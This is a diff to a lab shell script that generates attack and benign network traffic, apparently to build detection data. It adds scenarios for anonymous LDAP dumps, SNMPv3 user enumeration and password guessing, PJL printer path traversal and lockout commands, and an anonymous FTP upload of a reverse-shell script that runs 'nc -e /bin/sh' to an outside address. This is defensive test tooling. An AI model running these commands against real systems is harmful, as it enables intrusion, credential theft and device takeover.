@@ -4127,6 +4127,138 @@ scn_benign_redis_replica_pair() {
 	sleep 2
 	redis_down nas pc2
 }
+# Session 41 fix42c: an anonymous LDAP directory dump (slapd allowing anonymous
+# read, 40 users with userPassword: an old Linux directory or a NAS's), an
+# anonymous FTP upload (vsftpd with anon_upload_enable), SNMPv3 user-name
+# enumeration and password guessing (net-snmp's snmpd with one v3 user), and
+# PJL file-system abuse on a printer's port 9100 (PRET's commands); with the
+# benign shapes of each: rootDSE reads and an address-book lookup, an
+# anonymous download, a monitoring server's SNMPv3 polls, print jobs.
+slapd_up() {
+	local S=/etc/ldap/schema
+	mkdir -p "$tmp/ldap/db"
+	printf 'include %s/core.schema\ninclude %s/cosine.schema\ninclude %s/nis.schema\ninclude %s/inetorgperson.schema\npidfile %s/ldap/pid\nmodulepath /usr/lib/ldap\nmoduleload back_mdb\ndatabase mdb\nsuffix "dc=lab,dc=lan"\nrootdn "cn=admin,dc=lab,dc=lan"\nrootpw secret\ndirectory %s/ldap/db\naccess to * by * read\n' $S $S $S $S "$tmp" "$tmp" >"$tmp/ldap/slapd.conf"
+	{
+		printf 'dn: dc=lab,dc=lan\nobjectClass: dcObject\nobjectClass: organization\no: Lab\ndc: lab\n\ndn: ou=people,dc=lab,dc=lan\nobjectClass: organizationalUnit\nou: people\n\n'
+		for i in $(seq 1 40); do
+			printf 'dn: uid=user%d,ou=people,dc=lab,dc=lan\nobjectClass: inetOrgPerson\nobjectClass: posixAccount\ncn: User %d\nsn: U%d\nuid: user%d\nuidNumber: %d\ngidNumber: 100\nhomeDirectory: /home/user%d\nmail: user%d@lab.lan\nuserPassword: {SSHA}abcdefghijklmnopqrstuvwxyz0123%d\n\n' $i $i $i $i $((1000 + i)) $i $i $i
+		done
+	} >"$tmp/ldap/data.ldif"
+	rm -rf "$tmp/ldap/db"/*; slapadd -f "$tmp/ldap/slapd.conf" -l "$tmp/ldap/data.ldif" >/dev/null 2>&1
+	spawn nas /usr/sbin/slapd -d 0 -f "$tmp/ldap/slapd.conf" -h "ldap://$nas/"
+	local i; for i in $(seq 1 30); do inns pc ldapsearch -x -H "ldap://$nas" -s base -b '' >/dev/null 2>&1 && break; sleep 0.3; done
+}
+killns() { local h=$1 pat=$2 p; for p in $(ip netns pids "$P-$h"); do grep -qaE "$pat" /proc/$p/cmdline 2>/dev/null && kill "$p"; done; sleep 0.3; }
+scn_ldap_anon_dump_ldapsearch() {
+	slapd_up
+	inns evil ldapsearch -x -H "ldap://$nas" -s base -b '' namingContexts | grep -c dn
+	inns evil ldapsearch -x -H "ldap://$nas" -b dc=lab,dc=lan '(objectClass=*)' | grep -c '^dn'
+	killns nas slapd
+}
+scn_ldap_anon_dump_nmap() {
+	slapd_up
+	inns evil timeout 60 nmap -n -Pn -p389 --script ldap-rootdse,ldap-search "$nas" 2>&1 | tail -3
+	killns nas slapd
+}
+# Benign: rootDSE reads (every LDAP client's first step), a phone's or
+# printer's anonymous address-book lookup (a few entries, cn and mail), and
+# an authenticated sync is another finding (a simple bind in clear).
+scn_benign_ldap_anon_rootdse_lookup() {
+	slapd_up
+	local i; for i in 1 2 3; do inns pc ldapsearch -x -H "ldap://$nas" -s base -b '' namingContexts supportedLDAPVersion | grep -c dn; done
+	for n in 'user1*' 'user7' 'User 2*'; do inns pc2 ldapsearch -x -H "ldap://$nas" -b ou=people,dc=lab,dc=lan "(|(uid=$n)(cn=$n))" cn mail | grep -c '^dn'; done
+	killns nas slapd
+}
+anonftp_up() {
+	mkdir -p "$tmp/anon/pub" /var/run/vsftpd/empty; chmod 555 "$tmp/anon"; chmod 777 "$tmp/anon/pub"; echo readme >"$tmp/anon/README"
+	printf 'listen=YES\nlisten_address=%s\nanonymous_enable=YES\nanon_root=%s/anon\nwrite_enable=YES\nanon_upload_enable=%s\nanon_mkdir_write_enable=%s\nlocal_enable=NO\nbackground=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\nno_anon_password=YES\n' "$nas" "$tmp" "$1" "$1" >"$tmp/anonftp.conf"
+	spawn nas /usr/sbin/vsftpd "$tmp/anonftp.conf"; sleep 1
+}
+scn_ftp_anon_upload_lftp() {
+	anonftp_up YES
+	printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n' >"$tmp/shell.sh"
+	inns evil timeout 30 lftp -u anonymous,guest@ -e "set ftp:passive-mode on; ls; cd pub; put $tmp/shell.sh -o update.sh; mkdir tools; ls; bye" "ftp://$nas" 2>&1 | tail -3
+	killns nas vsftpd
+}
+scn_benign_ftp_anon_download_lftp() {
+	anonftp_up NO
+	inns pc timeout 30 lftp -u anonymous,guest@ -e "set ftp:passive-mode on; ls; get README -o $tmp/readme.got; cd pub; ls; bye" "ftp://$nas" 2>&1 | tail -3
+	killns nas vsftpd
+}
+snmpv3_up() {
+	mkdir -p "$tmp/snmpv3"
+	printf 'agentAddress udp:%s:161\ncreateUser monitor SHA "m0nit0rAuth" AES "m0nit0rPriv"\nrouser monitor priv\n' "$nas" >"$tmp/snmpv3.conf"
+	spawn nas env SNMP_PERSISTENT_DIR="$tmp/snmpv3" snmpd -f -Lo -C -c "$tmp/snmpv3.conf" -p "$tmp/snmpv3/pid"; sleep 1.5
+}
+scn_snmpv3_user_enum_snmpget() {
+	snmpv3_up
+	local u; for u in admin root snmp snmpuser nagios zabbix cisco public private manager operator user test guest backup network netadmin prtg librenms observium solarwinds opmanager readonly readwrite v3user authuser privuser initial templateMD5 templateSHA; do
+		inns evil snmpget -v3 -l noAuthNoPriv -u $u -r 0 -t 1 "$nas" 1.3.6.1.2.1.1.1.0 2>&1 | head -1
+	done
+	killns nas snmpd
+}
+scn_snmpv3_password_guess_snmpget() {
+	snmpv3_up
+	local w; for w in password123 admin1234 monitor123 public123 private123 snmpv3pass secret123 changeme1 letmein123 welcome123 qwerty1234 p4ssw0rd1 Passw0rd! monitoring zabbix123 nagios123 cisco1234 default12 snmpadmin 12345678; do
+		inns evil snmpget -v3 -l authNoPriv -u monitor -a SHA -A "$w" -r 0 -t 1 "$nas" 1.3.6.1.2.1.1.1.0 2>&1 | head -1
+	done
+	killns nas snmpd
+}
+# Benign: a monitoring server's SNMPv3 polls, each snmpget discovering the
+# engine ID first (a Report of usmStatsUnknownEngineIDs), every 3 s.
+scn_benign_snmpv3_polls_snmpget() {
+	snmpv3_up
+	local i; for i in $(seq 1 12); do
+		inns pc snmpget -v3 -l authPriv -u monitor -a SHA -A m0nit0rAuth -x AES -X m0nit0rPriv -r 0 -t 1 "$nas" 1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.1.5.0 2>&1 | head -1
+		sleep 2
+	done
+	inns pc snmpwalk -v3 -l authPriv -u monitor -a SHA -A m0nit0rAuth -x AES -X m0nit0rPriv "$nas" 1.3.6.1.2.1.2.2.1.2 | wc -l
+	killns nas snmpd
+}
+pjl_printer_up() {
+	cat >"$tmp/pjlprn.py" <<'PY'
+import socketserver
+class H(socketserver.StreamRequestHandler):
+    def handle(self):
+        for l in self.rfile:
+            u = l.strip().upper().lstrip(b"\x1b%-12345X")
+            if u.startswith(b"@PJL INFO ID"): self.wfile.write(b"@PJL INFO ID\r\n\"HP LaserJet M402dn\"\r\n\x0c")
+            elif u.startswith(b"@PJL FSDIRLIST"): self.wfile.write(l.strip() + b"\r\n. TYPE=DIR\r\n.. TYPE=DIR\r\nPJL TYPE=DIR\r\nwebServer TYPE=DIR\r\n\x0c")
+            elif u.startswith(b"@PJL FSUPLOAD"): self.wfile.write(l.strip() + b"\r\nroot:x:0:0:root:/root:/bin/sh\r\n\x0c")
+            elif u.startswith(b"@PJL INFO") or u.startswith(b"@PJL USTATUS"): self.wfile.write(l.strip() + b"\r\nCODE=10001\r\nDISPLAY=\"Ready\"\r\nONLINE=TRUE\r\n\x0c")
+class S(socketserver.ThreadingTCPServer): allow_reuse_address = True
+S(("", 9100), H).serve_forever()
+PY
+	spawn nas "$py" "$tmp/pjlprn.py"; sleep 1
+}
+scn_pjl_filesystem_abuse_ncat() {
+	pjl_printer_up
+	local c; for c in '@PJL INFO ID' '@PJL INFO STATUS' '@PJL INFO VARIABLES' '@PJL FSDIRLIST NAME="0:\" ENTRY=1 COUNT=65535' '@PJL FSUPLOAD NAME="0:\..\..\..\etc\passwd" OFFSET=0 SIZE=2048' '@PJL FSDOWNLOAD FORMAT:BINARY SIZE=19 NAME="0:\webServer\home\hostmanifest"' '@PJL RDYMSG DISPLAY="HACKED"' '@PJL DEFAULT PASSWORD=0' '@PJL DMCMD ASCIIHEX="040006020501010301040106"'; do
+		printf '\033%%-12345X%s\r\n\033%%-12345X\r\n' "$c" | inns evil timeout 3 ncat "$nas" 9100 | head -2
+	done
+	killns nas pjlprn
+}
+scn_pjl_settings_lock_ncat() {
+	pjl_printer_up
+	local c; for c in '@PJL INFO ID' '@PJL DEFAULT PASSWORD=31337' '@PJL DEFAULT DISKLOCK=ON' '@PJL DEFAULT CPLOCK=ON'; do
+		printf '\033%%-12345X%s\r\n\033%%-12345X\r\n' "$c" | inns evil timeout 3 ncat "$nas" 9100 | head -2
+	done
+	killns nas pjlprn
+}
+# Benign: print jobs wrapped in the PJL a driver writes (JOB, SET COPIES,
+# DUPLEX, RESOLUTION, ENTER LANGUAGE, EOJ) from two PCs, and a print
+# server's status polls (INFO ID, INFO STATUS, USTATUS).
+scn_benign_pjl_print_jobs_ncat() {
+	pjl_printer_up
+	local i h; for i in 1 2 3 4 5 6; do
+		h=pc; [ $((i % 2)) = 0 ] && h=pc2
+		{ printf '\033%%-12345X@PJL JOB NAME="Report %d.docx" DISPLAY="alice %d"\r\n@PJL SET USERNAME="alice"\r\n@PJL SET COPIES=%d\r\n@PJL SET DUPLEX=ON\r\n@PJL SET RESOLUTION=600\r\n@PJL RDYMSG DISPLAY="alice"\r\n@PJL ENTER LANGUAGE=PCL\r\n' $i $i $i
+		  printf '\033E\033&l26A\033*t600R'; head -c 20000 /dev/urandom | base64; printf '\033E\033%%-12345X@PJL EOJ NAME="Report %d.docx"\r\n\033%%-12345X' $i; } | inns $h timeout 5 ncat --send-only "$nas" 9100
+		printf '\033%%-12345X@PJL INFO ID\r\n@PJL INFO STATUS\r\n@PJL USTATUS DEVICE=ON\r\n\033%%-12345X' | inns pc2 timeout 3 ncat "$nas" 9100 | head -2
+		sleep 0.5
+	done
+	killns nas pjlprn
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
